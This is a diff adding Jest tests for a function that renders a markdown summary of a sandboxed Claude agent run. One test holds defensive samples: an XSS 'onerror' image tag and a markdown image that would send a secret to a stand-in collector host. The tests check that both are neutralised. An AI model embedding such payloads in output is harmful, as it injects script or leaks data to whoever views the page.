@@ -1,0 +1,135 @@
+import { describe, it, expect } from '@jest/globals'
+import type { AgentOutcome } from '../../src/agent/result.js'
+import { renderSummary, type SummaryData } from '../../src/report/summary.js'
+
+function outcome(extra: Partial<AgentOutcome> = {}): AgentOutcome {
+  return {
+    conclusion: 'success',
+    message: 'The agent finished',
+    finalMessage: '',
+    sessionId: 'sess-1',
+    numTurns: 9,
+    durationMs: 65_432,
+    costUsd: 0.12345,
+    inputTokens: 1500,
+    outputTokens: 320,
+    ...extra
+  }
+}
+
+function data(extra: Partial<SummaryData> = {}): SummaryData {
+  return { outcome: outcome(), files: [], insertions: 0, deletions: 0, ...extra }
+}
+
+function linesOf(markdown: string): string[] {
+  return markdown.split('\n')
+}
+
+describe('renderSummary', () => {
+  it('heads with the conclusion and its message', () => {
+    const lines = linesOf(renderSummary(data()))
+    expect(lines.slice(0, 3)).toEqual(['## ✅ Claude Sandbox: success', '', 'The agent finished'])
+    const timeout = renderSummary(
+      data({ outcome: outcome({ conclusion: 'timeout', message: 'Too slow' }) })
+    )
+    expect(linesOf(timeout)[0]).toBe('## ⏱️ Claude Sandbox: timeout')
+  })
+
+  it('shows turns, duration, cost, tokens and the session as table rows', () => {
+    const lines = linesOf(renderSummary(data()))
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        '| Turns | 9 |',
+        '| Duration | 65.4 s |',
+        '| Cost | $0.1235 |',
+        '| Tokens | 1500 in, 320 out |',
+        '| Files changed | 0 (+0 −0) |',
+        '| Session | `sess-1` |'
+      ])
+    )
+  })
+
+  it('leaves out the figures a run without a result does not have', () => {
+    const bare = renderSummary(
+      data({
+        outcome: {
+          conclusion: 'failure',
+          message: 'Claude Code exited with code 1 without a result',
+          finalMessage: ''
+        }
+      })
+    )
+    expect(bare).not.toMatch(/\| (Turns|Duration|Cost|Tokens|Session) \|/)
+    expect(bare).not.toContain('### Final message')
+    expect(bare).toContain('| Files changed | 0 (+0 −0) |')
+  })
+
+  it('lists changed files in a table', () => {
+    const markdown = renderSummary(
+      data({
+        files: [
+          { path: 'src/a.ts', insertions: 3, deletions: 1, status: 'modified', binary: false },
+          { path: 'img/logo.png', insertions: 0, deletions: 0, status: 'added', binary: true },
+          { path: 'odd|name.txt', insertions: 1, deletions: 0, status: 'added', binary: false }
+        ],
+        insertions: 4,
+        deletions: 1
+      })
+    )
+    const lines = linesOf(markdown)
+    expect(lines).toContain('| Files changed | 3 (+4 −1) |')
+    const header = lines.indexOf('| File | Change | + | − |')
+    expect(header).toBeGreaterThan(-1)
+    expect(lines.slice(header + 2, header + 5)).toEqual([
+      '| src/a.ts | modified | 3 | 1 |',
+      '| img/logo.png | added (binary) | 0 | 0 |',
+      // Agent-chosen names are shown as text: nothing in them can end the cell or add markup.
+      '| odd&#124;name.txt | added | 1 | 0 |'
+    ])
+  })
+
+  it('quotes the final message with HTML, images and @mentions made inert', () => {
+    const markdown = renderSummary(
+      data({
+        outcome: outcome({
+          finalMessage:
+            'Fixed it, @octocat.\n<img src=x onerror=alert(1)>\n![x](https://collector.invalid/?q=secret)'
+        })
+      })
+    )
+    const lines = linesOf(markdown)
+    const heading = lines.indexOf('### Final message')
+    expect(lines.slice(heading + 2, heading + 5)).toEqual([
+      '> Fixed it, @\u200boctocat.',
+      '> <\u200bimg src=x onerror=alert(1)>',
+      // An image would be fetched when the summary is viewed; a link needs a click.
+      '> !\u200b[x](https://collector.invalid/?q=secret)'
+    ])
+    expect(markdown).not.toContain('![')
+    expect(markdown).not.toContain('@octocat')
+    expect(markdown).not.toContain('<img')
+  })
+
+  it('includes the denied hosts section and the published line', () => {
+    const denied = '### Network: denied hosts\n\n| Host | Denied connections | Reason |'
+    const markdown = renderSummary(
+      data({
+        deniedHostsMarkdown: denied,
+        published: 'Pull request https://github.example/o/r/pull/7'
+      })
+    )
+    expect(markdown).toContain(`\n${denied}\n`)
+    expect(linesOf(markdown)).toContain(
+      '| Published | Pull request https://github.example/o/r/pull/7 |'
+    )
+    expect(renderSummary(data())).not.toMatch(/Published|denied hosts/)
+  })
+
+  it('names the patch and the transcript files', () => {
+    const markdown = renderSummary(
+      data({ patchPath: '/tmp/run/claude.patch', executionFile: '/tmp/run/transcript.jsonl' })
+    )
+    expect(markdown).toContain('- Patch: `/tmp/run/claude.patch` (apply with `git apply --binary`)')
+    expect(markdown).toContain('- Transcript: `/tmp/run/transcript.jsonl`')
+  })
+})
